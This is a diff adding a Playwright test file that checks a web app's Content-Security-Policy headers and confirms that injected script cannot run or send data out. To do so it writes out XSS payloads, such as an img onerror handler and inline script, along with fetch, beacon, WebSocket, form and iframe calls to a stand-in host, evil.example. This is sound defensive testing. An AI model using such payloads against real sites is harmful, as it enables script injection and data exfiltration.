@@ -1,0 +1,100 @@
+import { expect, test } from './test';
+
+const POLICY = 'content-security-policy';
+
+test.use({ allowedErrors: [/status of 404/] });
+
+for (const path of [
+  './',
+  './day/2025-02-26/',
+  './paper/2502.18411/',
+  './health/',
+  './no/such/page',
+]) {
+  test(`${path} comes with its policy in the page and as a header @subpath`, async ({ page }) => {
+    const response = await page.goto(path);
+    const header = (await response?.allHeaders())?.[POLICY] ?? '';
+    expect(header).toContain("default-src 'none'");
+    expect(header).toContain("require-trusted-types-for 'script'; trusted-types app;");
+    expect(header).toMatch(/frame-ancestors 'none'$/);
+    expect(header).not.toMatch(/unsafe|\*/);
+    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
+    const policy = (await meta.getAttribute('content')) ?? '';
+    // The header holds for all pages: it allows what each of them does, and no other directive differs.
+    for (const directive of policy.split('; ')) {
+      for (const source of directive.split(' ')) expect(header).toContain(source);
+    }
+    const names = (text: string) => text.split('; ').map((directive) => directive.split(' ')[0]);
+    expect(names(header)).toEqual([...names(policy), 'frame-ancestors']);
+  });
+}
+
+test('the worker may read from its own host and do nothing else', async ({ page }) => {
+  const worker = page.waitForResponse(/\/assets\/worker-[^/]+\.js$/);
+  await page.goto('./');
+  const { [POLICY]: policy = '' } = await (await worker).allHeaders();
+  expect(policy).toMatch(/, default-src 'none'; connect-src 'self'$/);
+});
+
+test.describe('script of a stranger in the page', () => {
+  test.use({ allowedErrors: [/Content.Security.Policy|Trusted|violates|ERR_BLOCKED_BY_CSP/i] });
+
+  test('does not run, and nothing is sent to him', async ({ page, complaints }) => {
+    await page.goto('./');
+    const ran = await page.evaluate(async () => {
+      const attempts: (() => unknown)[] = [
+        () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=1">'),
+        () => new Function('window.ran = 2')(),
+        () => window.setTimeout('window.ran = 3'),
+        () => {
+          const script = document.createElement('script');
+          script.append('window.ran = 4');
+          document.body.append(script);
+        },
+        () => {
+          const script = document.createElement('script');
+          script.src = 'https://evil.example/a.js';
+          document.body.append(script);
+        },
+        () => document.body.setAttribute('onclick', 'window.ran = 5'),
+        () => document.body.click(),
+        () => fetch('https://evil.example/?told').catch(() => {}),
+        () => navigator.sendBeacon('https://evil.example/', 'told'),
+        () => new Image().setAttribute('src', 'https://evil.example/told.png'),
+        () => new WebSocket('wss://evil.example/'),
+        () => {
+          const form = document.createElement('form');
+          form.action = 'https://evil.example/';
+          document.body.append(form);
+          form.submit();
+        },
+        () => {
+          const base = document.createElement('base');
+          base.href = 'https://evil.example/';
+          document.head.append(base);
+        },
+        () => {
+          const frame = document.createElement('iframe');
+          frame.src = 'https://evil.example/';
+          document.body.append(frame);
+        },
+        () => new Worker('data:text/javascript,postMessage(1)'),
+        () => window.trustedTypes?.createPolicy('mine', {}),
+      ];
+      // What a test calls right away is exempt from the policy.
+      await new Promise((resolve) => setTimeout(resolve));
+      for (const attempt of attempts) {
+        try {
+          await attempt();
+        } catch {
+          // As it should.
+        }
+      }
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return 'ran' in window ? window.ran : null;
+    });
+    expect(ran).toBeNull();
+    expect(complaints.filter((line) => line.startsWith('third party'))).toEqual([]);
+    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
+  });
+});
